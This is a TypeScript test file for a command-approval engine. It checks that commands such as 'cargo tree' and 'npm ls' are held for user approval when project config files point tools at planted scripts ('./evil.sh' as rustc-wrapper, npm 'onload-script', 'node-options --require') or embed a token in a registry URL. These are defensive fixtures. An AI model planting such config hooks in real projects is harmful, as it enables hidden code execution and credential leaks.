import * as engine from '@countersign/engine';
import { type TemporaryWorkspace, temporaryWorkspace } from '@countersign/host/testing';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { shippedJudge } from '../testing/shipped-verdict.js';

const shipped = shippedJudge(engine);

let place: TemporaryWorkspace;
beforeEach(() => {
  place = temporaryWorkspace();
});
afterEach(() => place.remove());

const verdictOn = (command: string) => shipped.onCommand(place.workspace, command);

describe('a program that a project contains is asked about', () => {
  test.each([
    ['cargo tree', '.cargo/config.toml', '[build]\nrustc-wrapper = "./evil.sh"\n', 'rustc-wrapper'],
    ['cargo tree', '.cargo/config', '[build]\nrustc = "./evil.sh"\n', 'rustc'],
    ['cargo tree', '.cargo/config.toml', 'build.rustc = "./evil.sh"\n', 'rustc'],
    ['cargo tree', '.cargo/config.toml', 'build = { "rustc" = "./evil.sh" }\n', 'rustc'],
    ['cargo tree', '.cargo/config.toml', '[env]\nRUSTC = "./evil.sh"\n', 'RUSTC'],
    ['cargo tree', '.cargo/config.toml', '[registry]\nglobal-credential-providers = ["./evil.sh"]\n', 'cred'],
    ['cargo --version', 'rust-toolchain.toml', '[toolchain]\npath = "./evil"\n', 'path'],
    ['rustc --version', 'rust-toolchain', '[toolchain]\npath = "./evil"\n', 'path'],
    ['yarn --version', '.yarnrc.yml', 'yarnPath: ./evil.cjs\n', 'yarnPath'],
    ['yarn --version', '.yarnrc', 'yarn-path "./evil.js"\n', 'yarn-path'],
    ['yarn -v', '.yarnrc.yml', 'plugins:\n  - ./evil.cjs\n', 'plugins'],
    [
      'pnpm --version',
      'package.json',
      '{"packageManager": "pnpm@https://host.example/x.js"}',
      'packageManager',
    ],
    ['npm ls', '.npmrc', 'onload-script=./evil.js\n', 'onload-script'],
    ['npm ls', '.npmrc', 'logs-dir=src\n', 'logs-dir'],
    ['npm run', '.npmrc', 'cache = ./x\n', 'cache'],
    ['npm pkg get name', '.npmrc', 'registry=${SCHEME}://host.example/${TOKEN}\n', 'registry'],
    ['npm ls', '.npmrc', '@a:registry=${SCHEME}://host.example/${TOKEN}\n', 'registry'],
    ['npm --version', '.npmrc', 'a=b\nnode-options = --require=./evil.js\n', 'node-options'],
  ])('%s, by %s: %j [P4]', async (command, path, text, key) => {
    place.put(path, text);
    const { decision, reason } = await verdictOn(command);
    expect([decision, reason]).toEqual(['ask_user', expect.stringContaining(key)]);
    place.put('sub/x', '');
    expect((await verdictOn(`cd sub && ${command}`)).decision).toBe('ask_user');
  });
});

test('everyday settings of projects are not asked about [P4]', async () => {
  place.put(
    '.cargo/config.toml',
    '[build]\ntarget = "wasm32-unknown-unknown"\njobs = 4\n[target.x]\nlinker = "clang"\n[env]\nCARGO_WORKSPACE_DIR = ""\n[net]\nretry = 2\n[alias]\nb = "build"\n',
  );
  place.put('rust-toolchain.toml', '[toolchain]\nchannel = "1.80"\ncomponents = ["clippy"]\n');
  place.put('rust-toolchain', 'stable\n');
  place.put('.yarnrc.yml', 'nodeLinker: node-modules\nenableGlobalCache: true\n');
  place.put('package.json', '{"packageManager": "pnpm@9.1.0+sha256.abc", "plugins": []}');
  place.put(
    '.npmrc',
    'ignore-scripts=true\nsave-exact=true\nregistry=https://host.example/\n//host/:_authToken=${TOKEN}\n',
  );
  for (const command of [
    'cargo tree',
    'cargo --version',
    'rustc --version',
    'yarn -v',
    'pnpm -v',
    'npm ls',
    'npm -v',
  ])
    expect([command, (await verdictOn(command)).decision]).toEqual([command, 'allow']);
});

test.each([
  'npm ls --logs-dir=src',
  'npm ls --logs-dir src',
  'npm ls --cache=src',
  'npm ls --cache src',
  'npm --cache src run',
  'pnpm ls --store-dir=src',
])('"%s" writes where it says, and asks [P4]', async (command) => {
  expect((await verdictOn(command)).decision).toBe('ask_user');
});
